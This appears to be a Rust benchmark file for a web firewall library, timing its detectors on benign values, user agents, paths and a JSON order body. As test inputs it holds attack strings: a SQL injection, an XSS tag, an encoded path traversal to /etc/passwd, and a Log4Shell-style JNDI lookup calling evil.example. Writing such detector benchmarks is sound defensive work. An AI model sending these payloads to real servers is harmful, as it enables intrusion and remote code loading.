//! Cost of the managed protections per value: each detector on benign and attack inputs,
//! user agents, paths, and a 1 KB JSON body scanned whole with every protection on.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use criterion::{black_box, criterion_group, criterion_main, BenchmarkId, Criterion};
use gatehouse::config::ManagedProtection;
use gatehouse::firewall::json_scan::scan_json_strings;
use gatehouse::firewall::managed::{inspect_path, inspect_user_agent, inspect_value};
use gatehouse::firewall::ProtectionSet;

fn only(p: ManagedProtection) -> ProtectionSet {
    std::iter::once(p).collect()
}

fn values(c: &mut Criterion) {
    let cases: [(&str, &[u8]); 9] = [
        ("benign_id", b"550e8400e29b41d4a716446655440000"),
        ("benign_word", b"electronics"),
        (
            "benign_text",
            b"Please deliver after 5pm, the cat is friendly",
        ),
        ("benign_quote", b"Conan O'Brien said \"don't stop\""),
        ("benign_url", b"https://example.com/a/b?c=d&e=f"),
        ("sqli", b"1' OR '1'='1' -- "),
        ("xss", b"\"><img src=x onerror=alert(1)>"),
        ("traversal", b"..%252f..%252f..%252fetc%252fpasswd"),
        ("known_bad", b"${${lower:j}ndi:ldap://evil.example/a}"),
    ];
    let mut group = c.benchmark_group("inspect_value");
    for p in ManagedProtection::ALL {
        if p == ManagedProtection::Scanners {
            continue;
        }
        for (name, v) in cases {
            group.bench_with_input(BenchmarkId::new(p.label(), name), v, |b, v| {
                b.iter(|| black_box(inspect_value(only(p), black_box(v))))
            });
        }
    }
    for (name, v) in cases {
        group.bench_with_input(BenchmarkId::new("all", name), v, |b, v| {
            b.iter(|| black_box(inspect_value(ProtectionSet::all(), black_box(v))))
        });
    }
    group.finish();
}

fn user_agents(c: &mut Criterion) {
    let mut group = c.benchmark_group("inspect_user_agent");
    for (name, ua) in [
        (
            "chrome",
            &b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36"[..],
        ),
        ("curl", b"curl/8.4.0"),
        ("sqlmap", b"sqlmap/1.7.2#stable (https://sqlmap.org)"),
        ("jndi", b"Mozilla/5.0 ${jndi:ldap://evil.example/a}"),
    ] {
        group.bench_with_input(BenchmarkId::from_parameter(name), ua, |b, ua| {
            b.iter(|| black_box(inspect_user_agent(ProtectionSet::all(), black_box(ua))))
        });
    }
    group.finish();
}

fn paths(c: &mut Criterion) {
    let mut group = c.benchmark_group("inspect_path");
    for (name, path) in [
        (
            "api",
            &b"/api/v1/orders/550e8400-e29b-41d4-a716-446655440000/items"[..],
        ),
        ("encoded", b"/search/caf%C3%A9/new%20york"),
        ("traversal", b"/static/..%252f..%252f..%252fetc/passwd"),
    ] {
        group.bench_with_input(BenchmarkId::from_parameter(name), path, |b, path| {
            b.iter(|| black_box(inspect_path(ProtectionSet::all(), black_box(path))))
        });
    }
    group.finish();
}

fn json_body(c: &mut Criterion) {
    let body = serde_json::json!({
        "order_id": "550e8400-e29b-41d4-a716-446655440000",
        "customer": {
            "name": "Conan O'Brien",
            "email": "conan.obrien+orders@example.com",
            "phone": "+1 (555) 010-9999",
            "address": {
                "line1": "123 Main St., Apt #4",
                "line2": "c/o Smith",
                "city": "Springfield",
                "zip": "62704",
                "country": "US"
            }
        },
        "items": [
            {"sku": "ABC-123", "name": "Wireless mouse", "qty": 2, "price": 19.99},
            {"sku": "XYZ-9", "name": "USB-C cable (2 m)", "qty": 1, "price": 5.0},
            {"sku": "KB-101", "name": "Mechanical keyboard, brown switches", "qty": 1, "price": 89.5}
        ],
        "coupon": "SPRING-2024",
        "notes": "Leave at the door; ring the bell twice. Don't leave it in the rain!",
        "gift_message": "Happy birthday, D'Angelo! Hope you like it -- see you on Saturday.",
        "tags": ["gift", "priority", "fragile"],
        "metadata": {
            "source": "https://shop.example.com/cart?ref=newsletter&utm_campaign=spring",
            "user_agent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15",
            "created_at": "2024-03-15T10:30:00.000Z",
            "session": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MiJ9.c2lnbmF0dXJl"
        },
        "comment": "Please select the best packaging option; the last order arrived with a dent."
    });
    let body = body.to_string().into_bytes();
    let len = body.len();
    assert!((900..=1300).contains(&len), "body is {len} bytes");
    let mut buf = Vec::new();
    c.bench_function("json_body_1k_all_protections", |b| {
        b.iter(|| {
            let mut found = None;
            scan_json_strings(black_box(&body), &mut buf, |s| {
                found = inspect_value(ProtectionSet::all(), s);
                found.is_none()
            });
            black_box(found)
        })
    });
}

criterion_group!(benches, values, user_agents, paths, json_body);
criterion_main!(benches);
